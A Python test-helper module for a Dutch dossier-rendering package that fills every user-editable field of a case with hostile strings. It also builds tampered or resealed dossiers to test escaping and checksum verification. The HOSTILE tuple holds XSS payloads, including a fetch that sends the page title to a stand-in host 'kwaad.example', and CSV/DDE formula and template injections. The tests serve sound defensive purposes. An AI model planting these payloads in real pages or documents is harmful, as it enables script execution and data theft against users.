"""
What the tests of dossiers share: hostile strings, a case that holds them everywhere, what a reader gets to see, and
dossiers in which somebody changed something.
"""

from __future__ import annotations

import copy
import html
import io
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import attrs

from taaktoedeling.document.html import NO_SEAL
from taaktoedeling.dossier.build import checksum
from taaktoedeling.dossier.forms import render
from taaktoedeling.dossier.page import page_text, seal_of
from taaktoedeling.dossier.verify_file import verify_file
from taaktoedeling.model.casus import Casus
from taaktoedeling.model.kader import Kader
from taaktoedeling.reading.casus import casus_to_plain, load_casus, parse_casus, shipped_case

HOSTILE = (
    "<script>fetch('http://kwaad.example/'+document.title);alert(1)</script>",
    '"><img src=http://kwaad.example/x.png onerror=alert(1)>',
    "</script><script>alert(2)</script>",
    "</style><style>@import url(http://kwaad.example/x.css)</style>",
    "<svg onload=alert(3)><foreignObject><iframe src=javascript:alert(4)></iframe></foreignObject></svg>",
    "<!-- <base href=http://kwaad.example/> --> ]]> <?xml-stylesheet href='http://kwaad.example/x'?>",
    "[klik](javascript:alert(5)) ![plaat](http://kwaad.example/y.png) <http://kwaad.example>",
    "``` `code` *vet* _schuin_ ~~weg~~ # kop | cel | $x^2$ {{7*7}} ${7*7} %n%s",
    '=HYPERLINK("http://kwaad.example";"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\u003cscript\\u003e &lt;b&gt; &#60;i&#62; \\x3c",
    "w:instrText HYPERLINK INCLUDETEXT { DDEAUTO c:\\\\windows }",
)
"""Strings that would do something where text is not kept apart from markup."""

GENTLE = (
    "\N{WOMAN}\N{ZERO WIDTH JOINER}\N{MICROSCOPE} \N{WAVING WHITE FLAG}\ufe0f\N{ZERO WIDTH JOINER}\N{RAINBOW}",
    "שלום\u200f (rechts naar links)\u200e en terug, مرحبا",
    "e\u0301 ﬁ ﷽ 𝕏 \u2028 \u2029 ı ß Ĳ",
    "\U0001fa77 \U0001fae9 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f \u0378",
)
"""Texts that are only unusual, and come through."""

OLD = "0.0.9"
"""A version of the package that this is not."""

EVERYTHING = " ¶ ".join((*HOSTILE, *GENTLE))


def hostile_casus(kader: Kader) -> Casus:
    """A case in which a user typed hostile strings wherever a user can type."""
    plain = casus_to_plain(load_casus(shipped_case("wmo-maatwerk"), kader))
    for key in ("titel", "omschrijving", "perspectief", "beleidsterrein"):
        plain["taak"][key] = EVERYTHING
    plain["taak"]["bronnen"] = [*HOSTILE, *GENTLE]
    for key in ("omschrijving", "bron"):
        plain["aanleiding"][key] = EVERYTHING
    for place, answer in enumerate([*plain["antwoorden"].values(), *plain["feitelijk"].values()]):
        answer["toelichting"] = EVERYTHING
        if not answer.get("aanname"):
            answer["bron"] = HOSTILE[place % len(HOSTILE)]
    plain["arrangement"] |= {"toelichting": EVERYTHING, "bron": EVERYTHING}
    plain["motivering"] = {"BR-23": EVERYTHING, "ROB-1": EVERYTHING}
    for oordeel in plain["oordeel"]:
        oordeel |= {"wie": EVERYTHING, "strekking": EVERYTHING, "bron": EVERYTHING}
    return parse_casus(plain, kader)


def render_whole(dossiers: Sequence[dict[str, Any]], form: str, pictures: Any = ()) -> bytes:
    """Dossiers with all of their annexes, in one of the forms."""
    return render(dossiers, form, pictures, volledig=True)


def text_of_html(page: bytes) -> str:
    """What a reader of the page sees, on one line; without its style sheet."""
    shown = re.sub(r"<style>.*?</style>", "", page.decode("utf-8"), flags=re.DOTALL)
    return squeeze(" ".join(page_text(shown)))


def text_of_markdown(raw: bytes) -> str:
    """The words of Markdown, without its marks."""
    text = re.sub(r"\\([\\`*_\[\]{}#|~$^.:+=)-])", r"\1", raw.decode("utf-8").replace("**", ""))
    return squeeze(html.unescape(text))


def text_of_docx(raw: bytes) -> str:
    """The words of a Word document, those in tables too, in the order of the file."""
    import docx
    from docx.oxml.ns import qn

    body = docx.Document(io.BytesIO(raw)).element.body
    words = ["".join(node.text or "\t" for node in p.iter(qn("w:t"), qn("w:tab"))) for p in body.iter(qn("w:p"))]
    return squeeze(" ".join(words))


def squeeze(text: str) -> str:
    """Text with every run of blank space as one space, and none before a mark."""
    return " ".join(text.split())


def facts(dossier: dict[str, Any]) -> list[str]:
    """Sentences and names that every form has to hold, as they stand in the data."""
    advies = dossier["advies"]
    found = [advies["taak"]["titel"], advies["taak"]["omschrijving"], dossier["sha256"]]
    found += advies["conclusie"] + advies["beperkingen"] + advies["eigen_keuzen"]
    found += [step["tekst"] for step in advies["stappen"]]
    found += [text for vorm in advies["vormen"] for text in (vorm["label"], vorm["waarom"])]
    for answer in advies["antwoorden"]:
        found += [answer[key] for key in ("label", "vraag", "tekst", "toelichting", "bron")]
    for rule in advies["regels"]:
        if rule["staat"] != "geen":
            found += [f"{rule['naam']} ({rule['id']})", rule["tekst"], rule["vraag"], *rule["bronnen"]]
    for tension in advies["spanningen"]:
        found += [tension["tekst"], *(reading["tekst"] for reading in tension["lezingen"])]
    for duty in advies["plichten"]:
        found += [duty["tekst"], *(part["tekst"] for part in duty["onderdelen"])]
    found += list(_evaluated(dossier["evaluatie"] or {}))
    herkomst = advies["herkomst"]
    found += [herkomst["kader_sha256"], herkomst["casus_sha256"], herkomst["kaderversie"]]
    found += [text for text in (dossier["robuustheid"] or {}).get("zinnen", ()) if text]
    return [squeeze(text.rstrip(".")) for text in found if text]


def _evaluated(evaluatie: dict[str, Any]) -> Iterator[str]:
    """What every form has to tell of an evaluation."""
    yield from evaluatie.get("samenvatting", ())
    for shift in evaluatie.get("scheefgroei", ()):
        yield from (shift["bedoeld"], shift["feitelijk"], shift["toelichting"])
        yield from (cause["naam"] for cause in shift["oorzaken"] if cause["genoemd"])
    for test in (test for one in evaluatie.get("balans", ()) for test in one["toetsen"] if test["van_toepassing"]):
        yield from (test["naam"], test["uitleg"], *test["bronnen"])
    for knob in (evaluatie.get("knoppen") or {}).get("knoppen", ()):
        yield from (knob["naam"], knob["tekst"], *knob["uitleg"])
    yield from (note["tekst"] for note in evaluatie.get("noten", ()) if note["bij"] != "aanleiding")
    for group in (group for part in evaluatie.get("vervolg", ()) for group in part["groepen"]):
        yield from (group["naam"], group["tekst"], *(step["tekst"] for step in group["stappen"]))


def changed(casus: Casus, **fields: Any) -> Casus:
    """A case with another task."""
    return attrs.evolve(casus, taak=attrs.evolve(casus.taak, **fields))


def altered(dossier: dict[str, Any], *path: Any, to: Any, seal: bool = True) -> dict[str, Any]:
    """A dossier with another value somewhere, and a checksum that fits or not."""
    other = copy.deepcopy(dossier)
    place = other
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = to
    return {**other, "sha256": checksum(other)} if seal else other


def aged(dossier: dict[str, Any]) -> dict[str, Any]:
    """A dossier that says that another version of the package made it."""
    other = altered(dossier, "herkomst", "pakketversie", to=OLD)
    return altered(other, "advies", "herkomst", "pakketversie", to=OLD)


def resealed(page: str) -> str:
    """A page whose seal was made to fit."""
    bare = re.sub(r'(content="sha256-)[0-9a-f]{64}', rf"\g<1>{NO_SEAL}", page, count=1)
    return bare.replace(NO_SEAL, seal_of(bare), 1)


def verify_text(tmp_path: Path, text: str, kader: Kader) -> Any:
    """What comes of verifying a file with this text."""
    path = tmp_path / "dossier"
    path.write_text(text, encoding="utf-8")
    (found,) = verify_file(path, kader)
    return found
